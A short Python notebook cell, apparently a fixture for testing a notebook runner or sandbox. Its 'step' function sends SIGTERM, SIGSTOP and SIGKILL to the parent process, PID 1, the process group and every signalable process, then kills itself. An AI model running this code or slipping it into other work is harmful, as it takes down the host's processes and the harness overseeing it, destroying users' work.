# Signals to the parent, to the first process, to the group, and to every process there is.
# shows: the notebook

# %% step
import os
import signal


def step(*args):
    for number in (os.getppid(), 1, 0, -1):
        for kill in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(number, kill)
            except OSError:
                continue
    os.kill(os.getpid(), signal.SIGKILL)
